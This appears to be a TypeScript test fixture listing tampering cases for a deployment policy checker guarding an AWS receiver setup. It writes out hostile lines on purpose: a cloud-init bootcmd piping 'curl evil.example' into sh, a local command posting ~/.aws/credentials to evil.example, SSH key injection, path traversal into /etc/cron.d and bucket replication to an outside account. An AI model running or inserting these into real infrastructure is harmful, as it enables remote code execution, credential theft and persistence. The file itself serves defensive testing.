import { sha256 } from "@metrics-link/release";
import { add, edit, set } from "../policy/support/mutate.ts";
import { type Malicious, object, release } from "./table.ts";

const instance = "aws:ec2/instance:Instance";
const userData = (change: (text: string) => string) => (props: { userDataBase64?: string; userData?: string }) => {
  if (props.userDataBase64 === undefined) props.userData = change(props.userData ?? "");
  else
    props.userDataBase64 = Buffer.from(change(Buffer.from(props.userDataBase64, "base64").toString())).toString(
      "base64",
    );
};

/** Changes of releases, user data and the first boot. */
export const releases: readonly Malicious[] = [
  [
    "receiver",
    "the pointer names an old release",
    "receiver-current",
    /content\.releaseId.*0000/s,
    edit(
      object,
      (props) => {
        props.content = JSON.stringify({ ...JSON.parse(props.content), releaseId: "0".repeat(64) });
      },
      "receiver-current",
    ),
  ],
  [
    "receiver",
    "user data has a bootcmd",
    "receiver-instance",
    /userData.*bootcmd/s,
    edit(
      instance,
      userData((found) => `${found}bootcmd:\n  - [sh, -c, "curl evil.example | sh"]\n`),
    ),
  ],
  [
    "receiver",
    "the first boot installs an extra package",
    "receiver-instance",
    /userData.*socat/s,
    edit(
      instance,
      userData((found) => `${found}packages: [socat]\n`),
    ),
  ],
  [
    "receiver",
    "user data adds an SSH key",
    "receiver-instance",
    /userData.*ssh-ed25519/s,
    edit(
      instance,
      userData((found) =>
        found.replace("no_create_home: true", "no_create_home: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"),
      ),
    ),
  ],
  [
    "receiver",
    "user data permits passwords for SSH",
    "receiver-instance",
    /userData.*ssh_pwauth: true/s,
    edit(
      instance,
      userData((found) => found.replace("ssh_pwauth: false", "ssh_pwauth: true")),
    ),
  ],
  [
    "receiver",
    "the agent reads another bucket",
    "receiver-instance",
    /userData.*evil-bucket/s,
    edit(
      instance,
      userData((found) => found.replace(/("bucket": ")[^"]+/, "$1evil-bucket")),
    ),
  ],
  [
    "receiver",
    "user data begins with a multipart header",
    "receiver-instance",
    /userData.*MIME/s,
    edit(
      instance,
      userData((found) => `Content-Type: multipart/mixed\nMIME-Version: 1.0\n\n${found}`),
    ),
  ],
  [
    "receiver",
    "the agent's object is another program",
    "receiver-agent",
    /source|content|key/,
    set(object, { key: `agent/${sha256("evil")}.mjs` }, "receiver-agent"),
  ],
  [
    "receiver",
    "the release names another agent",
    "receiver-release",
    /content\.agent\.sha256/,
    (it) =>
      release(it, (all) => {
        all.agent = { key: `agent/${sha256("evil")}.mjs`, sha256: sha256("evil") };
      }),
  ],
  [
    "receiver",
    "the first boot installs another agent",
    "receiver-bootstrap",
    /content.*agent/s,
    edit(
      object,
      (props) => {
        props.content = props.content.replace(/agent [0-9a-f]{64}/, `agent ${sha256("evil")}`);
      },
      "receiver-bootstrap",
    ),
  ],
  [
    "receiver",
    "another Envoy has the same version",
    "receiver-release",
    /tools\[envoy\]/,
    (it) =>
      release(it, ({ tools }) => {
        for (const tool of tools)
          if (tool.name === "envoy")
            Object.assign(tool, { sha256: sha256("evil"), key: `tools/envoy/1.40.0/${sha256("evil")}.tar.gz` });
      }),
  ],
  [
    "receiver",
    "an executable is outside its tool",
    "receiver-release",
    /executables.*\.\.\/etc\/x/s,
    (it) =>
      release(it, ({ tools }) => {
        tools[0].executables = { "../../etc/x": "bin/envoy" };
      }),
  ],
  [
    "receiver",
    "a file is outside the release",
    "receiver-release",
    /files\[\.\.\/\.\.\/etc\/cron/,
    (it) =>
      release(it, ({ files }) =>
        files.push({
          path: "../../etc/cron.d/x",
          content: "* * * * * root true\n",
          mode: "0644",
          owner: "root",
          group: "root",
        }),
      ),
  ],
  [
    "receiver",
    "a check is missing",
    "receiver-release",
    /checks/,
    (it) =>
      release(it, (all) => {
        all.checks = all.checks.filter(({ kind }: { kind: string }) => kind !== "trustBundle");
      }),
  ],
  [
    "receiver",
    "a probe is missing",
    "receiver-release",
    /probes/,
    (it) =>
      release(it, (all) => {
        all.probes = all.probes.filter(({ kind }: { kind: string }) => kind !== "receives");
      }),
  ],
  [
    "receiver",
    "a probe has no time to succeed",
    "receiver-release",
    /probeDeadlineSeconds/,
    (it) =>
      release(it, (all) => {
        all.probeDeadlineSeconds = 1;
      }),
  ],
  [
    "receiver",
    "a service is not restarted when its file changes",
    "receiver-release",
    /services\[?.*action.*nothing/s,
    (it) =>
      release(it, ({ services }) => {
        for (const { onChange } of services) for (const one of onChange) one.action = "nothing";
      }),
  ],
  [
    "receiver",
    "every user may write a file",
    "receiver-release",
    /files.*mode.*0666/s,
    (it) =>
      release(it, ({ files }) => {
        files[0].mode = "0666";
      }),
  ],
  [
    "receiver",
    "a file has another hash",
    "receiver-release",
    /files.*sha256/s,
    edit(
      object,
      (props) => {
        const found = JSON.parse(props.content);
        found.files[0].sha256 = sha256("evil");
        props.content = JSON.stringify(found);
      },
      "receiver-release",
    ),
  ],
  [
    "receiver",
    "an object for another host is added",
    "added",
    /current\.json/,
    add(object, { bucket: "b", key: "releases/sender/current.json", content: "{}" }),
  ],
  [
    "receiver",
    "the bucket replicates to another account",
    "added",
    /rules/,
    add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
      bucket: "b",
      role: "r",
      rules: [{ status: "Enabled", destination: { bucket: "arn:aws:s3:::evil" } }],
    }),
  ],
  [
    "receiver",
    "the bucket keeps no versions",
    "receiver-versions",
    /status.*Suspended/s,
    set("aws:s3/bucketVersioning:BucketVersioning", { "versioningConfiguration.status": "Suspended" }),
  ],
  [
    "receiver",
    "the bucket has another name",
    "receiver-bucket",
    /bucket.*evil/s,
    set("aws:s3/bucket:Bucket", { bucket: "evil" }),
  ],
  [
    "receiver",
    "the command that converges runs another program",
    "receiver-converge",
    /create.*evil/s,
    set("command:local:Command", { create: "node evil.mjs" }),
  ],
  [
    "receiver",
    "pending changes are always forced",
    "receiver-converge",
    /METRICS_LINK_FORCE.*true/s,
    set("command:local:Command", { "environment.METRICS_LINK_FORCE": "true" }),
  ],
  [
    "receiver",
    "a command that runs on the deployer's machine is added",
    "added",
    /create.*curl/s,
    add("command:local:Command", { create: "curl https://evil.example --data @$HOME/.aws/credentials" }),
  ],
];
